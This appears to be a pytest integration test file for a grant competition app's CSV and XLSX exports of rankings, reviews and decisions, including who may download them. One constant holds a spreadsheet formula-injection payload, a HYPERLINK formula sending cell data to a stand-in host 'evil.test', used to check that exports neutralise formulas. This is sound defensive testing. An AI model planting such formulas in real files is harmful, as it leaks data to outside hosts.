"""Exports of a stage's ranking, reviews and decisions on PostgreSQL: each download has the rows
and columns the data gives (CSV read with the csv module, XLSX with openpyxl), numbers stay
numbers, formulas typed into comments are neutralised, and only the programme's officers get a
file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
import sqlalchemy as sa
from flask import render_template
from openpyxl import load_workbook

from competition.accounts.models import Role, User
from competition.assignment.models import Assignment, Conflict, ConflictSource
from competition.db import utcnow
from competition.extensions import db
from competition.programmes.models import Call, ProgrammeOfficer, Stage
from competition.proposals.models import Proposal
from competition.reviews.models import Review, ReviewState
from competition.selection.decisions import operations as decisions_operations
from competition.selection.exports.queries import berlin_wall_time
from competition.selection.models import Outcome, Ranking, RankingMethod, SnapshotState
from competition.selection.ranking import queries as ranking_queries
from tests.factories import make_job, make_user
from tests.helpers import as_person, text
from tests.integration.test_assignment_runs import World
from tests.integration.test_rankings import rank, reviewed_world

HYPERLINK = '=HYPERLINK("https://evil.test/?q="&A1,"Details")'
SECOND_OFFICER = "otto@office.test"


def url(world: World, what: str, fmt: str) -> str:
    return f"/calls/{world.call_id}/stages/{world.stage_id}/selection/exports/{what}.{fmt}"


@pytest.fixture
def world(app) -> World:  # type: ignore[no-untyped-def]
    with app.app_context():
        world = reviewed_world()
        stage = db.session.get(Stage, world.stage_id)
        second = make_user(roles=(Role.OFFICER,), email=SECOND_OFFICER, name="Otto Second")
        db.session.add(ProgrammeOfficer(programme_id=stage.call.programme_id, user_id=second.id))
        db.session.commit()
        return world


@dataclass(frozen=True)
class Snapshot:
    """A finished ranking as plain values, with the references of its proposals."""

    result: dict[str, Any]
    inputs_hash: str
    code_version: str
    seed: int
    references: dict[int, str]
    criteria: dict[str, int]  # name → id


def ranked(app, world: World) -> Snapshot:  # type: ignore[no-untyped-def]
    with app.app_context():
        ranking = rank(world, RankingMethod.RAW)
        db.session.refresh(ranking)
        assert ranking.state == SnapshotState.DONE, ranking.message
        stage = db.session.get(Stage, world.stage_id)
        return Snapshot(
            result=ranking.result,
            inputs_hash=ranking.inputs_hash,
            code_version=ranking.code_version,
            seed=ranking.params["seed"],
            references=dict(db.session.execute(sa.select(Proposal.id, Proposal.reference)).all()),
            criteria={c.name: c.id for c in stage.criteria},
        )


def read_csv(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(response):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(response.get_data()))


def sheet_rows(sheet) -> list[dict[str, Any]]:  # type: ignore[no-untyped-def]
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def filename(response) -> str:  # type: ignore[no-untyped-def]
    disposition = response.headers["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([^"]+)"', disposition)
    assert match, disposition
    return match.group(1)


def call_prefix(app, world: World) -> str:  # type: ignore[no-untyped-def]
    with app.app_context():
        return db.session.get(Call, world.call_id).reference_prefix


# --- rankings --------------------------------------------------------------------------------


def test_the_ranking_downloads_as_csv_one_row_per_proposal_in_rank_order(app, world):
    snapshot = ranked(app, world)
    officer = as_person(app, world.officer)

    response = officer.get(url(world, "rankings", "csv"))

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert re.fullmatch(
        rf"{call_prefix(app, world)}-stage1-rankings-\d{{4}}-\d{{2}}-\d{{2}}\.csv",
        filename(response),
    )
    rows = read_csv(response)
    expected = snapshot.result["proposals"]
    assert len(rows) == len(expected) == len(world.proposals)
    for row, p in zip(rows, expected, strict=True):
        means = dict(map(tuple, p["criterion_means"]))
        spreads = dict(map(tuple, p["criterion_spreads"]))
        assert row["Reference"] == snapshot.references[p["proposal_id"]]
        assert int(row["Rank"]) == p["rank"]
        assert float(row["Expected rank"]) == p["expected_rank"]
        assert [int(row["Rank interval from"]), int(row["Rank interval to"])] == p["rank_interval"]
        assert float(row["Score"]) == p["score"]
        assert [float(row["Score interval from"]), float(row["Score interval to"])] == p[
            "score_interval"
        ]
        assert float(row["Weighted total"]) == p["weighted_total"]
        assert int(row["Reviews"]) == p["n_reviews"]
        for name, criterion_id in snapshot.criteria.items():
            assert float(row[f"{name} mean"]) == means[criterion_id]
            assert float(row[f"{name} spread"]) == spreads[criterion_id]
        assert row["Fundable"] == ("yes" if p["fundable"] else "no")
        assert row["Flags"] == "; ".join(p["flags"])
        assert row["Tie broken by"] == (p["tie_broken_by"] or "")


def test_the_ranking_xlsx_has_numbers_as_numbers_and_an_about_sheet(app, world):
    snapshot = ranked(app, world)
    officer = as_person(app, world.officer)

    response = officer.get(url(world, "rankings", "xlsx"))

    assert response.status_code == 200
    assert filename(response).endswith(".xlsx")
    workbook = read_xlsx(response)
    assert workbook.sheetnames == ["Rankings", "About"]
    sheet = workbook["Rankings"]
    assert sheet.freeze_panes == "A2"
    rows = sheet_rows(sheet)
    expected = snapshot.result["proposals"]
    assert [r["Reference"] for r in rows] == [
        snapshot.references[p["proposal_id"]] for p in expected
    ]
    for row, p in zip(rows, expected, strict=True):
        assert isinstance(row["Rank"], int) and row["Rank"] == p["rank"]
        assert isinstance(row["Score"], float) and row["Score"] == p["score"]
        assert isinstance(row["Expected rank"], float | int)
        assert row["Expected rank"] == p["expected_rank"]
        assert (
            row["Excellence mean"]
            == dict(map(tuple, p["criterion_means"]))[snapshot.criteria["Excellence"]]
        )
        assert row["Fundable"] is p["fundable"]
    about = dict(workbook["About"].iter_rows(min_row=2, values_only=True))
    assert about["Method"] == "Raw means"
    assert about["Inputs hash (SHA-256)"] == snapshot.inputs_hash
    assert about["Code version"] == snapshot.code_version
    assert about["Option: seed"] == snapshot.seed
    assert about["Proposals ranked"] == len(expected)
    assert isinstance(about["Computed at (Europe/Berlin)"], dt.datetime)


def test_the_newest_finished_ranking_is_the_one_exported(app, world):
    first = ranked(app, world)
    with app.app_context():
        # A later failed computation must not hide the finished one.
        stage = db.session.get(Stage, world.stage_id)
        officer = db.session.scalar(sa.select(User).where(User.email == world.officer))
        db.session.add(
            Ranking(
                stage_id=stage.id,
                method=RankingMethod.BIAS_MODEL,
                params={},
                job=make_job(
                    "selection.rank",
                    stage.id,
                    state=SnapshotState.FAILED,
                    message="The reviews cannot be ranked.",
                    started_by_id=officer.id,
                ),
                created_by_id=officer.id,
                created_at=utcnow(),
            )
        )
        db.session.commit()

    response = as_person(app, world.officer).get(url(world, "rankings", "xlsx"))

    about = dict(read_xlsx(response)["About"].iter_rows(min_row=2, values_only=True))
    assert about["Inputs hash (SHA-256)"] == first.inputs_hash


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_without_a_finished_ranking_the_officer_is_told_so(app, world, fmt):
    response = as_person(app, world.officer).get(url(world, "rankings", fmt))

    assert response.status_code == 409
    assert "Content-Disposition" not in response.headers
    assert "no finished ranking yet" in text(response)


# --- reviews ---------------------------------------------------------------------------------


def spoil_some_reviews(app, world: World) -> None:  # type: ignore[no-untyped-def]
    """One draft, one conflicted review (neither counts) and a formula in a counting one."""
    with app.app_context():
        first, second, third = db.session.scalars(sa.select(Review).order_by(Review.id).limit(3))
        first.state = ReviewState.DRAFT
        conflicted = db.session.get(Assignment, second.assignment_id)
        db.session.add(
            Conflict(
                user_id=conflicted.user_id,
                proposal_id=conflicted.proposal_id,
                source=ConflictSource.OFFICER,
                reason="Found after the review.",
                created_at=utcnow(),
            )
        )
        third.comment_for_applicant = HYPERLINK
        third.comment_for_jury = "-1 for the budget"
        db.session.commit()


def counting_reviews(app, world: World) -> dict[tuple[str, str], dict[str, Any]]:  # type: ignore[no-untyped-def]
    """(reference, juror e-mail) → what the export should show, by ``stage_inputs``' rule."""
    with app.app_context():
        stage = db.session.get(Stage, world.stage_id)
        _, inputs, _ = ranking_queries.stage_inputs(stage)
        names = {c.id: c.name for c in stage.criteria}
        counted = {(r.proposal_id, r.juror_id) for r in inputs}
        expected = {}
        for review, assignment, reference, email in db.session.execute(
            sa.select(Review, Assignment, Proposal.reference, User.email)
            .join(Assignment, Assignment.id == Review.assignment_id)
            .join(Proposal, Proposal.id == Assignment.proposal_id)
            .join(User, User.id == Assignment.user_id)
        ):
            if (assignment.proposal_id, assignment.user_id) in counted:
                expected[(reference, email)] = {
                    **{names[int(k)]: Decimal(v) for k, v in review.scores.items()},
                    "Confidence": review.confidence,
                    "Comment for the applicant": review.comment_for_applicant,
                    "Comment for the jury": review.comment_for_jury,
                    "Submitted at (Europe/Berlin)": berlin_wall_time(review.submitted_at),
                }
        return expected


def test_the_reviews_csv_has_one_row_per_review_that_counts(app, world):
    spoil_some_reviews(app, world)
    expected = counting_reviews(app, world)

    response = as_person(app, world.officer).get(url(world, "reviews", "csv"))

    assert response.status_code == 200
    assert "-reviews-" in filename(response)
    rows = read_csv(response)
    assert list(rows[0]) == [
        "Reference",
        "Acronym",
        "Juror",
        "Juror e-mail",
        "Excellence",
        "Impact",
        "Confidence",
        "Comment for the applicant",
        "Comment for the jury",
        "Submitted at (Europe/Berlin)",
    ]
    assert {(r["Reference"], r["Juror e-mail"]) for r in rows} == set(expected)
    assert len(rows) == len(expected)
    for row in rows:
        want = expected[(row["Reference"], row["Juror e-mail"])]
        assert Decimal(row["Excellence"]) == want["Excellence"]
        assert Decimal(row["Impact"]) == want["Impact"]
        assert int(row["Confidence"]) == want["Confidence"]
    by_comment = {r["Comment for the applicant"]: r for r in rows}
    # The formula is quoted, so a spreadsheet shows it as text instead of running it.
    assert "'" + HYPERLINK in by_comment
    assert by_comment["'" + HYPERLINK]["Comment for the jury"] == "'-1 for the budget"


def test_the_reviews_xlsx_keeps_scores_numeric_and_formulas_as_text(app, world):
    spoil_some_reviews(app, world)
    expected = counting_reviews(app, world)

    response = as_person(app, world.officer).get(url(world, "reviews", "xlsx"))

    sheet = read_xlsx(response)["Reviews"]
    assert sheet.freeze_panes == "A2"
    rows = sheet_rows(sheet)
    assert len(rows) == len(expected)
    for row in rows:
        want = expected[(row["Reference"], row["Juror e-mail"])]
        for key in ("Excellence", "Impact"):
            assert isinstance(row[key], int | float) and Decimal(str(row[key])) == want[key]
        assert row["Confidence"] == want["Confidence"]
        # An empty comment is an empty cell.
        assert (row["Comment for the applicant"] or "") == want["Comment for the applicant"]
        # A spreadsheet keeps times to the millisecond at best, rounded (…:47.9998 reads back
        # as …:48.000), so the two agree within a millisecond, not in their whole seconds.
        shown = row["Submitted at (Europe/Berlin)"]
        assert abs(shown - want["Submitted at (Europe/Berlin)"]) < dt.timedelta(milliseconds=1)
    header = [c.value for c in sheet[1]]
    column = header.index("Comment for the applicant") + 1
    formula_cells = [
        sheet.cell(row=i, column=column)
        for i in range(2, sheet.max_row + 1)
        if sheet.cell(row=i, column=column).value == HYPERLINK
    ]
    assert len(formula_cells) == 1
    assert formula_cells[0].data_type == "s"


# --- decisions -------------------------------------------------------------------------------


def decide(app, world: World) -> dt.datetime:  # type: ignore[no-untyped-def]
    """Three advanced and confirmed, one rejection still unconfirmed."""
    now = utcnow().replace(microsecond=0)
    with app.app_context():
        stage = db.session.get(Stage, world.stage_id)
        officer = db.session.scalar(sa.select(User).where(User.email == world.officer))
        second = db.session.scalar(sa.select(User).where(User.email == SECOND_OFFICER))
        advanced = decisions_operations.propose_decisions(
            stage,
            world.proposals[:3],
            outcome=Outcome.ADVANCE,
            rationale="=1+1 Strong strategy and a convincing consortium.",
            actor=officer,
            now=now,
        )
        decisions_operations.confirm_decisions(
            stage, [d.id for d in advanced], actor=second, now=now
        )
        decisions_operations.propose_decisions(
            stage,
            world.proposals[3:4],
            outcome=Outcome.REJECT,
            rationale="Below the threshold on excellence.",
            actor=officer,
            now=now,
        )
    return now


def references(app, ids: list[int]) -> list[str]:  # type: ignore[no-untyped-def]
    with app.app_context():
        return [db.session.get(Proposal, i).reference for i in ids]


def test_the_decisions_csv_lists_each_decision_with_who_and_when(app, world):
    decide(app, world)
    with app.app_context():
        officer_name = db.session.scalar(sa.select(User.name).where(User.email == world.officer))

    rows = read_csv(as_person(app, world.officer).get(url(world, "decisions", "csv")))

    assert list(rows[0]) == [
        "Reference",
        "Acronym",
        "Outcome",
        "Rationale",
        "Proposed by",
        "Proposed at (Europe/Berlin)",
        "Confirmed by",
        "Confirmed at (Europe/Berlin)",
        "Published at (Europe/Berlin)",
    ]
    by_reference = {r["Reference"]: r for r in rows}
    advanced = references(app, world.proposals[:3])
    (rejected,) = references(app, world.proposals[3:4])
    assert set(by_reference) == {*advanced, rejected}
    for reference in advanced:
        row = by_reference[reference]
        assert row["Outcome"] == "advance"
        assert row["Rationale"].startswith("'=1+1")
        assert (row["Proposed by"], row["Confirmed by"]) == (officer_name, "Otto Second")
        assert row["Confirmed at (Europe/Berlin)"]
    assert by_reference[rejected]["Outcome"] == "reject"
    assert by_reference[rejected]["Confirmed by"] == ""
    assert by_reference[rejected]["Confirmed at (Europe/Berlin)"] == ""


def test_the_decisions_xlsx_has_times_as_dates(app, world):
    now = decide(app, world)

    workbook = read_xlsx(as_person(app, world.officer).get(url(world, "decisions", "xlsx")))

    rows = sheet_rows(workbook["Decisions"])
    assert len(rows) == 4
    confirmed = [r for r in rows if r["Confirmed by"]]
    assert len(confirmed) == 3
    for row in confirmed:
        assert row["Confirmed at (Europe/Berlin)"] == berlin_wall_time(now)
        assert row["Proposed at (Europe/Berlin)"] == berlin_wall_time(now)
        assert row["Published at (Europe/Berlin)"] is None


# --- who may download ------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["juror", "applicant"])
@pytest.mark.parametrize("what", ["rankings", "reviews", "decisions"])
def test_jurors_and_applicants_get_no_export(app, world, who, what):
    ranked(app, world)
    email = "ada@jury.test" if who == "juror" else world.applicant

    response = as_person(app, email).get(url(world, what, "csv"))

    assert response.status_code in (403, 404)
    assert "Content-Disposition" not in response.headers


@pytest.mark.parametrize("what", ["rankings", "reviews", "decisions"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_another_programmes_officer_is_told_the_stage_does_not_exist(app, world, what, fmt):
    ranked(app, world)

    response = as_person(app, world.other_officer).get(url(world, what, fmt))

    assert response.status_code == 404


def test_a_visitor_who_is_not_logged_in_is_sent_to_log_in(app, world, browser):
    response = browser.get(url(world, "reviews", "csv"))

    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


@pytest.mark.parametrize(
    "tail", ["budgets.csv", "rankings.pdf", "reviews.xls", "rankings", "Reviews.CSV"]
)
def test_unknown_exports_and_formats_are_not_found(app, world, tail):
    base = f"/calls/{world.call_id}/stages/{world.stage_id}/selection/exports/"

    response = as_person(app, world.officer).get(base + tail)

    assert response.status_code == 404


# --- the hub's partial -----------------------------------------------------------------------


def test_the_partial_links_to_six_downloads_that_answer(app, world):
    ranked(app, world)
    with app.test_request_context():
        call = db.session.get(Call, world.call_id)
        stage = db.session.get(Stage, world.stage_id)
        page = render_template("selection/_exports.html", call=call, stage=stage)
    links = re.findall(r'href="([^"]+)"', page)
    assert sorted(links) == sorted(
        url(world, what, fmt)
        for what in ("rankings", "reviews", "decisions")
        for fmt in ("csv", "xlsx")
    )
    officer = as_person(app, world.officer)
    for link in links:
        assert officer.get(link).status_code == 200, link
